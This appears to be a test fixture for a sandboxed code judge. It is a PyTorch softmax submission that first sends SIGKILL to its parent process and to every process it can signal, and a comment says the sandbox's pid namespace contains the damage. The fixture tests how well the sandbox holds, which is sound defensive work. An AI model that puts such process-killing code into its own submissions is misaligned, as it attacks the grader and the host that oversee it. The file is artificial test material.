# expect: accepted
# Kills its parent and every process it is allowed to signal, then answers correctly: nothing outside the
# sandbox's pid namespace can be reached, so the judge carries on and the verdict stands.
import os
import signal

import torch


def softmax(x: torch.Tensor, dim: int = -1) -> torch.Tensor:
    for target in (os.getppid(), -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    e = (x - x.amax(dim, keepdim=True)).exp()
    return e / e.sum(dim, keepdim=True)
